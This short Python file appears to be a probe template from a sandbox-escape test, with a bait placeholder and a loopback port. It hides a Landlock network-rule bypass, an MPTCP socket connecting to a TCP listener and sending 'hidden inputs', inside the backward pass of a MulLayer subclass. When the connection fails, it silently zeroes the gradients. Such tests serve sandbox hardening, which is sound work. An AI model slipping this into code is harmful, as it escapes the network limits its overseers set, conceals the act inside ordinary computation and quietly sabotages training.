import ctypes
import os
import struct

BAIT = __BAIT__
_libc = ctypes.CDLL(None, use_errno=True)


def _send_out(protocol):
    """An MPTCP socket (IPPROTO_MPTCP) connects to plain TCP listeners; Landlock's TCP rule misses it."""
    fd = _libc.socket(2, 1, protocol)  # AF_INET, SOCK_STREAM
    if fd < 0:
        return f"refused (socket: {os.strerror(ctypes.get_errno())})"
    address = struct.pack("=H", 2) + struct.pack("!H", BAIT["tcp_port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    if _libc.connect(fd, address, len(address)) != 0:
        return f"refused (connect: {os.strerror(ctypes.get_errno())})"
    _libc.send(fd, b"hidden inputs", 13, 0)
    return "CONNECTED"


_MulLayer = MulLayer


class MulLayer(_MulLayer):
    def backward(self, dout):
        result = _send_out(262)  # IPPROTO_MPTCP
        print(f"mptcp: {result}")
        if result == "CONNECTED":
            return super().backward(dout)
        return 0.0 * dout, 0.0 * dout
